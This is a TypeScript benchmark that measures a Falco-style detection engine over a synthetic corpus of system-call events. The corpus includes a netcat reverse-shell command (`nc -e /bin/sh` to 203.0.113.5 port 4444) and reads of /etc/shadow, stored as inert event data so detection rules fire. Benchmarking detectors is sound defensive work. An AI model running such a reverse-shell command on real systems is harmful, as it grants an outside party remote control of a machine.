/**
 * Whole-path benchmark of the Falco engine on one thread (tinybench): for each event, update the
 * state tables (StateTables.apply), evaluate the indexed rule set with real field extraction, then
 * StateTables.finish — what a shard worker does per event, minus decoding and alert shipping.
 *
 * Rule set: bench/falco/stable-style-rules.ts (same shape as Falco's stable rules, written by us).
 * Corpus: synthetic events in realistic proportions (open-heavy, then close, recvfrom and mmap, exec with its
 * clone, connect/socket, and a tail of dup, ptrace, links, module loads, unlink), by a fixed set of
 * processes on the host and in containers; a few events match rules.
 *
 * Run: `node --import tsx bench/falco/ruleset.bench.ts` (BENCH_TIME_MS to change the sample time).
 */
import os from 'node:os';
import { Bench } from 'tinybench';
import { eventByName } from '../../src/events/event-table.js';
import { NO_LOGINUID, type ArgValue, type VigilEvent } from '../../src/events/event.js';
import { loadFalcoRules } from '../../src/falco/index.js';
import type { EvalContext } from '../../src/falco/fields/field.js';
import { StateTables } from '../../src/state/index.js';
import { STABLE_STYLE_RULES } from './stable-style-rules.js';

/** Deterministic pseudo-random numbers, so every run sees the same corpus. */
function random(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (Math.imul(s, 1664525) + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}

const CONTAINER_CGROUP = '/docker/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef';
const PROCS = [
  { comm: 'nginx', exe: '/usr/sbin/nginx', cgroup: CONTAINER_CGROUP },
  { comm: 'postgres', exe: '/usr/lib/postgresql/bin/postgres', cgroup: '' },
  { comm: 'node', exe: '/usr/bin/node', cgroup: CONTAINER_CGROUP },
  { comm: 'java', exe: '/usr/bin/java', cgroup: '' },
  { comm: 'bash', exe: '/bin/bash', cgroup: '' },
  { comm: 'python3', exe: '/usr/bin/python3', cgroup: CONTAINER_CGROUP },
  { comm: 'containerd', exe: '/usr/bin/containerd', cgroup: '' },
  { comm: 'systemd-journal', exe: '/lib/systemd/systemd-journald', cgroup: '' },
];
/** Mostly libraries, caches, /proc and data files; a sensitive file once in a while. */
const FILES = [
  ...Array<string>(6).fill('/usr/lib/x86_64-linux-gnu/libc.so.6'), ...Array<string>(4).fill('/etc/ld.so.cache'),
  ...Array<string>(6).fill('/proc/self/status'), ...Array<string>(6).fill('/var/lib/app/data.db'), ...Array<string>(3).fill('/tmp/cache/x'),
  ...Array<string>(3).fill('/etc/hosts'), ...Array<string>(4).fill('/var/log/app.log'), '/home/u/.ssh/known_hosts', '/etc/shadow', '/etc/passwd',
];
const EXECS = [
  { comm: 'ls', exe: '/bin/ls', args: ['-la'] },
  { comm: 'sh', exe: '/bin/sh', args: ['-c', 'uname -a'] },
  { comm: 'grep', exe: '/bin/grep', args: ['-r', 'TODO', '.'] },
  { comm: 'curl', exe: '/usr/bin/curl', args: ['-s', 'https://example.test/health'] },
  { comm: 'ls', exe: '/bin/ls', args: [] },
  { comm: 'cat', exe: '/bin/cat', args: ['/etc/hosts'] },
  { comm: 'nc', exe: '/bin/nc', args: ['-e', '/bin/sh', '203.0.113.5', '4444'] },
];

/** Event mix per 1000 events. */
const MIX: [string, number][] = [
  ['openat', 420], ['open', 60], ['close', 200], ['recvfrom', 50], ['mmap', 40], ['execve', 25], ['clone', 25], ['socket', 30],
  ['connect', 40], ['accept4', 15], ['dup2', 15], ['unlinkat', 30], ['ptrace', 5], ['symlinkat', 10], ['linkat', 5],
  ['finit_module', 2], ['sendto', 28],
];

function buildCorpus(size: number): VigilEvent[] {
  const rnd = random(42);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
  const wheel: string[] = MIX.flatMap(([name, n]) => Array<string>(n).fill(name));
  let ts = 1_700_000_000_000_000_000n;
  const events: VigilEvent[] = [];
  const make = (name: string, pid: number, comm: string, cgroup: string, ret: number, args: Record<string, ArgValue>): VigilEvent => {
    ts += 1000n;
    return {
      id: eventByName(name)!.id, name, ts, cpu: 0, pid, tid: pid, ppid: 1, vpid: pid, vtid: pid, vppid: 1, uid: 0, gid: 0,
      loginuid: NO_LOGINUID, comm, tty: 0, mntns: 4026531840, pidns: 4026531836, cgroupId: 0, cgroup, ret, args,
    };
  };
  // Long-running processes first, so the tables know them.
  PROCS.forEach((p, i) => events.push(make('execve', 1000 + i, p.comm, p.cgroup, 0, { exe: p.exe, args: [], comm: p.comm, cwd: '/', trusted_exepath: p.exe })));
  let nextChild = 5000;
  while (events.length < size) {
    const i = Math.floor(rnd() * PROCS.length);
    const p = PROCS[i]!;
    const pid = 1000 + i;
    const name = pick(wheel);
    switch (name) {
      case 'open':
      case 'openat': {
        const write = rnd() < 0.05;
        events.push(make(name, pid, p.comm, p.cgroup, rnd() < 0.05 ? -2 : 3, { dirfd: -100, name: pick(FILES), flags: write ? 577 : 0 }));
        break;
      }
      case 'close':
      case 'recvfrom':
      case 'mmap':
        events.push(make(name, pid, p.comm, p.cgroup, 0, { fd: 3 }));
        break;
      case 'clone': {
        const child = nextChild++;
        events.push(make('clone', pid, p.comm, p.cgroup, child, { child_tid: child, child_pid: child }));
        const e = pick(EXECS);
        events.push(make('execve', child, e.comm, p.cgroup, 0, { exe: e.exe, args: e.args, comm: e.comm, cwd: '/', trusted_exepath: e.exe }));
        events.push(make('procexit', child, e.comm, p.cgroup, 0, {}));
        break;
      }
      case 'execve':
        break; // exec comes with its clone above
      case 'socket':
        events.push(make('socket', pid, p.comm, p.cgroup, 4, { domain: 2, type: 1, proto: 0 }));
        break;
      case 'connect':
      case 'sendto': {
        const port = pick([443, 443, 443, 80, 80, 5432, 5432, 53, 53, 4444]);
        events.push(make(name, pid, p.comm, p.cgroup, 0, { fd: 4, addr: { family: 2, addr: pick(['10.0.0.7', '93.184.216.34', '203.0.113.5']), port }, local: { family: 2, addr: '10.0.0.2', port: 40000 + (events.length % 20000) } }));
        break;
      }
      case 'accept4':
        events.push(make(name, pid, p.comm, p.cgroup, 5, { listenfd: 4, addr: { family: 2, addr: '198.51.100.9', port: 51000 }, local: { family: 2, addr: '10.0.0.2', port: 443 } }));
        break;
      case 'dup2':
        events.push(make(name, pid, p.comm, p.cgroup, 1, { oldfd: pick([3, 3, 3, 4]), newfd: 1 }));
        break;
      case 'ptrace':
        events.push(make(name, pid, p.comm, p.cgroup, 0, { request: pick([2, 2, 2, 2, 16]), pid: 1 }));
        break;
      case 'symlinkat':
        events.push(make(name, pid, p.comm, p.cgroup, 0, { target: pick(['/etc/shadow', '/tmp/a', '/tmp/a', '/tmp/a', '/tmp/a']), linkdirfd: -100, linkpath: '/tmp/l' }));
        break;
      case 'linkat':
        events.push(make(name, pid, p.comm, p.cgroup, 0, { olddir: -100, oldpath: '/tmp/a', newdir: -100, newpath: '/tmp/b', flags: 0 }));
        break;
      default:
        events.push(make(name, pid, p.comm, p.cgroup, 0, {}));
    }
  }
  return events.slice(0, size);
}

const loaded = loadFalcoRules([{ name: 'stable-style.yaml', text: STABLE_STYLE_RULES }]);
if (!loaded.ruleset) throw new Error(`benchmark rules do not load: ${loaded.diagnostics.map((d) => d.message).join('; ')}`);
const ruleset = loaded.ruleset;
const CORPUS_SIZE = 20_000;
const corpus = buildCorpus(CORPUS_SIZE);

let epoch = 0;
let alerts = 0;
const alertsByRule = new Map<string, number>();
/** A worker's tables live as long as the worker: this one survives passes (the corpus's children exit). */
const longLived = new StateTables({ hostRoot: '/nonexistent' });

/** One worker's per-event path over the whole corpus; fresh state tables unless `state` is given. */
function runCorpus(withRules: boolean, collect = false, state = new StateTables({ hostRoot: '/nonexistent' })): void {
  const ctx: EvalContext = { evt: corpus[0]!, num: 0, thread: undefined, fd: undefined, state, epoch: 0 };
  for (let i = 0; i < corpus.length; i++) {
    const evt = corpus[i]!;
    const applied = state.apply(evt);
    ctx.evt = evt;
    ctx.thread = applied.thread;
    ctx.fd = applied.fd;
    ctx.num = i + 1;
    ctx.epoch = ++epoch;
    if (withRules) {
      const found = ruleset.evaluate(ctx);
      alerts += found.length;
      if (collect) for (const a of found) alertsByRule.set(a.rule, (alertsByRule.get(a.rule) ?? 0) + 1);
    }
    state.finish(evt);
  }
}

const counts = new Map<string, number>();
for (const e of corpus) counts.set(e.name, (counts.get(e.name) ?? 0) + 1);
runCorpus(true, true);
const alertsPerPass = alerts;

/** CPU time of the measured phase per task (the last beforeAll/afterAll pair is the run phase). */
const cpuNsPerPass = new Map<string, number>();
function measured(name: string, fn: () => void): [string, () => void, { beforeAll: () => void; afterAll: () => void }] {
  let passes = 0;
  let start = process.cpuUsage();
  return [
    name,
    () => {
      fn();
      passes++;
    },
    {
      beforeAll: () => {
        passes = 0;
        start = process.cpuUsage();
      },
      afterAll: () => {
        const used = process.cpuUsage(start);
        cpuNsPerPass.set(name, ((used.user + used.system) * 1000) / Math.max(1, passes));
      },
    },
  ];
}

const loadBefore = os.loadavg()[0]!;
const bench = new Bench({ time: Number(process.env.BENCH_TIME_MS ?? 3000), warmupTime: 500 });
bench.add(...measured('state + rules (stable-style ruleset)', () => runCorpus(true)));
bench.add(...measured('state only (baseline)', () => runCorpus(false)));
bench.add(...measured('state + rules, long-lived state', () => runCorpus(true, false, longLived)));
await bench.run();
const loadAfter = os.loadavg()[0]!;

console.log(`rules: ${loaded.counts.rules}, macros: ${loaded.counts.macros}, lists: ${loaded.counts.lists}; corpus ${CORPUS_SIZE} events, ${alertsPerPass} alerts per pass`);
console.log(`alerts: ${[...alertsByRule].map(([r, n]) => `${r} ${n}`).join(', ')}`);
console.log(`mix: ${[...counts].sort((a, b) => b[1] - a[1]).map(([n, c]) => `${n} ${((100 * c) / CORPUS_SIZE).toFixed(1)}%`).join(', ')}`);
console.log(`load average (1 min) ${loadBefore.toFixed(1)} → ${loadAfter.toFixed(1)} on ${os.cpus().length} cores`);
const perSecond = (nsPerEvent: number) => Math.round(1e9 / nsPerEvent).toLocaleString('en-US');
for (const task of bench.tasks) {
  const latency = task.result && 'latency' in task.result ? task.result.latency : undefined;
  if (!latency) continue;
  const ns = (ms: number) => (ms * 1e6) / CORPUS_SIZE;
  const cpu = (cpuNsPerPass.get(task.name) ?? NaN) / CORPUS_SIZE;
  console.log(
    `${task.name}: passes ${latency.samplesCount}, wall ns/event min ${ns(latency.min).toFixed(0)} / median ${ns(latency.p50).toFixed(0)} ` +
      `(${perSecond(ns(latency.min))} / ${perSecond(ns(latency.p50))} events/s), CPU ${cpu.toFixed(0)} ns/event (${perSecond(cpu)} events/s)`,
  );
}
